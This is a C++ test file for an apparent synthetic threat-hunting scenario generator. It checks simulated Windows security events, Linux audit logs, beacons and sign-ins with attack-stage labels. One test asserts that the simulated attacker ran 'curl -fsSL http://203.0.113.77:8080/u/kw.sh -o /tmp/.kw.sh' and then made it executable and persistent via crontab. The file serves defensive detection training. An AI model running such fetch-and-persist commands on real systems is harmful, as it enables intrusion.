#include "scenario/story/scenario.hpp"

#include <cstdlib>
#include <map>
#include <set>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "scenario/windows/event_kinds.hpp"

namespace huntbook::scenario {
namespace {

struct Seen {
  Ticks time;
  std::string host;
  WindowsChannel channel;
  std::uint64_t record;
  int id;
  std::string stage;
  std::map<std::string, std::string, std::less<>> data;
};

class Observer : public Recorder {
 public:
  void record(const WindowsEvent& event) override {
    ++events;
    EXPECT_NE(find_event_kind(event.channel, event.id), nullptr) << event.id;
    Seen& seen = windows.emplace_back(Seen{event.time,
                                           std::string(event.computer),
                                           event.channel,
                                           event.record,
                                           event.id,
                                           event.label != nullptr ? std::string(event.label->stage) : "",
                                           {}});
    for (const auto& [key, value] : event.data) seen.data.emplace(key, value);
  }
  void record(const AuditEvent& event) override {
    ++events;
    EXPECT_GT(event.serial, last_serial[event.host]);
    EXPECT_GE(event.time, last_time[event.host]);
    last_serial[event.host] = event.serial;
    last_time[event.host] = event.time;
    if (event.label != nullptr) ++stages[std::string(event.label->stage)];
    if (const auto* execution = std::get_if<Execution>(&event.fact)) {
      std::string line;
      for (const std::string& argument : execution->arguments) line += argument + " ";
      (event.label != nullptr ? attackers_commands : lawful_commands).insert(line);
    }
  }
  void record(const SyslogLine&) override { ++events; }
  void record(const Connection& connection) override {
    ++events;
    if (connection.target == "198.51.100.23" && connection.target_port == 443) beacons.push_back(connection.time);
  }
  void record(const Lookup&) override { ++events; }
  void record(const OfficeOperation& operation) override {
    ++events;
    if (operation.name == "FileDownloaded") downloads[operation.client.address].push_back(operation.time);
  }
  void record(const SignIn& sign_in) override {
    ++events;
    sign_ins[sign_in.client.address].push_back(sign_in.error);
  }
  void record(const Alert& alert) override {
    ++events;
    ++alerts[alert.label != nullptr];
  }

  std::vector<Seen> windows;
  std::map<std::size_t, std::uint64_t> last_serial;
  std::map<std::size_t, Ticks> last_time;
  std::map<std::string, int> stages;  // of the Linux hosts' audit events
  std::set<std::string> attackers_commands;
  std::set<std::string> lawful_commands;
  std::vector<Ticks> beacons;
  std::map<std::string, std::vector<Ticks>> downloads;
  std::map<std::string, std::vector<int>> sign_ins;
  std::map<bool, int> alerts;
  std::uint64_t events = 0;
};

// Events of the Windows hosts' security logs.
std::vector<Seen> events_of(const Options& options) {
  Observer observer;
  generate(options, observer, [] { return false; });
  std::erase_if(observer.windows, [](const Seen& seen) { return seen.channel != WindowsChannel::Security; });
  return observer.windows;
}

TEST(Scenario, TimesAndRecordNumbersOfAHostGoUp) {
  std::map<std::string, Seen> last;
  for (const Seen& event : events_of({110'000, 1})) {
    auto [at, first] = last.try_emplace(event.host, event);
    if (!first) {
      EXPECT_LT(at->second.time, event.time);
      EXPECT_EQ(at->second.record + 1, event.record);
      at->second = event;
    }
  }
  EXPECT_EQ(last.size(), 2U);
}

TEST(Scenario, TheAttackIsOnOneHostAndSeedsDoNotChangeItsSteps) {
  std::vector<std::map<std::string, int>> counts;
  for (std::uint64_t seed : {1U, 9U}) {
    auto& of_seed = counts.emplace_back();
    for (const Seen& event : events_of({110'000, seed})) {
      if (event.stage.empty()) continue;
      EXPECT_EQ(event.host, "FIN-TS01.harbourline.example");
      ++of_seed[event.stage];
    }
  }
  EXPECT_EQ(counts[0], counts[1]);
  EXPECT_EQ(counts[0].size(), 9U);
  EXPECT_EQ(counts[0]["credential access"], 218);
}

TEST(Scenario, TheTruthHoldsTheStoryInItsOrder) {
  std::vector<int> ids;
  std::set<std::string> logon_types;
  for (const Seen& event : events_of({10'000, 4})) {
    if (event.stage.empty()) continue;
    if (event.id == 4624) logon_types.insert(event.data.at("LogonType"));
    if (ids.empty() || ids.back() != event.id) ids.push_back(event.id);
  }
  ASSERT_GT(ids.size(), 4U);
  EXPECT_EQ(ids[0], 4625);
  EXPECT_EQ(ids[1], 4624);
  EXPECT_EQ(logon_types, (std::set<std::string>{"10", "3"}));
  for (int id : {4672, 4688, 4698, 4697, 4720, 4732, 1102, 4647, 4798, 4799}) {
    EXPECT_NE(std::find(ids.begin(), ids.end(), id), ids.end()) << id;
  }
}

TEST(Scenario, WhatTheAttackersSessionsDoIsLabelledAndNothingElse) {
  const std::vector<Seen> events = events_of({20'000, 2});
  std::set<std::string> sessions;
  for (const Seen& event : events) {
    if (event.id != 4624) continue;
    const std::string& address = event.data.at("IpAddress");
    const bool attacker = address == "203.0.113.77" || address == "198.51.100.23";
    EXPECT_EQ(attacker, !event.stage.empty());
    if (attacker) sessions.insert(event.data.at("TargetLogonId"));
  }
  EXPECT_EQ(sessions.size(), 4U);
  for (const Seen& event : events) {
    const auto subject = event.data.find("SubjectLogonId");
    if (subject != event.data.end() && sessions.contains(subject->second)) {
      EXPECT_FALSE(event.stage.empty()) << event.id << " " << event.record;
    }
  }
}

TEST(Scenario, TheAttackersToolsHaveLawfulUsersToo) {
  bool lawful_ftp = false;
  bool lawful_users = false;
  for (const Seen& event : events_of({10'000, 1})) {
    if (event.id != 4688 || !event.stage.empty()) continue;
    lawful_ftp |= event.data.at("CommandLine").find("-s:") != std::string::npos;
    lawful_users |= event.data.at("CommandLine").find("net.exe\" ") != std::string::npos;
  }
  EXPECT_TRUE(lawful_ftp);
  EXPECT_TRUE(lawful_users);
}

TEST(Scenario, EveryProcessHasAParentOfTheSameName) {
  std::map<std::string, std::string> paths;
  for (const Seen& event : events_of({10'000, 1})) {
    if (event.id != 4688) continue;
    const auto parent = paths.find(event.data.at("ProcessId"));
    // Long-lived services have fixed ids below the pool of new ones and were started before the log begins.
    if (parent != paths.end() && std::strtol(event.data.at("ProcessId").c_str(), nullptr, 16) > 0x800) {
      EXPECT_EQ(parent->second, event.data.at("ParentProcessName")) << event.record;
    }
    paths[event.data.at("NewProcessId")] = event.data.at("NewProcessName");
  }
}

TEST(Scenario, TheLinuxHostIsGuessedEnteredAndKept) {
  Observer seen;
  generate({10'000, 1}, seen, [] { return false; });
  EXPECT_GE(seen.stages["credential access"], 250);
  EXPECT_TRUE(seen.attackers_commands.contains("curl -fsSL http://203.0.113.77:8080/u/kw.sh -o /tmp/.kw.sh "));
  EXPECT_TRUE(seen.attackers_commands.contains("chmod +x /tmp/.kw.sh "));
  EXPECT_TRUE(seen.attackers_commands.contains("crontab - "));
  // The administrator does the like, lawfully.
  EXPECT_TRUE(seen.lawful_commands.contains("chmod +x /tmp/up.sh "));
  EXPECT_TRUE(seen.lawful_commands.contains("crontab -e "));
}

TEST(Scenario, TheImplantCallsHomeAboutEveryHalfHourUntilItIsFound) {
  Observer seen;
  generate({10'000, 1}, seen, [] { return false; });
  ASSERT_GT(seen.beacons.size(), 200U);
  std::set<Ticks> pauses;
  for (std::size_t i = 1; i < seen.beacons.size(); ++i) {
    const Ticks pause = seen.beacons[i] - seen.beacons[i - 1];
    EXPECT_GT(pause, 23 * ticks_per_minute);
    EXPECT_LT(pause, 37 * ticks_per_minute);
    pauses.insert(pause / ticks_per_minute);
  }
  EXPECT_GT(pauses.size(), 6U);
}

TEST(Scenario, DocumentsAreDownloadedFromTheSameAddressAfterFailures) {
  Observer seen;
  generate({10'000, 1}, seen, [] { return false; });
  const auto& attackers = seen.downloads["203.0.113.77"];
  ASSERT_EQ(attackers.size(), 420U);
  EXPECT_LT(attackers.back() - attackers.front(), 15 * ticks_per_minute);
  const auto& errors = seen.sign_ins["203.0.113.77"];
  ASSERT_GT(errors.size(), 12U);
  EXPECT_NE(errors.front(), 0);
  EXPECT_EQ(errors.back(), 0);
  EXPECT_EQ(seen.alerts[true], 7);
  EXPECT_GE(seen.alerts[false], 8);
}

TEST(Scenario, StopsWhenAsked) {
  Observer observer;
  EXPECT_FALSE(generate({20'000, 1}, observer, [&] { return observer.events > 100; }));
  EXPECT_LT(observer.events, 200U);
}

}  // namespace
}  // namespace huntbook::scenario
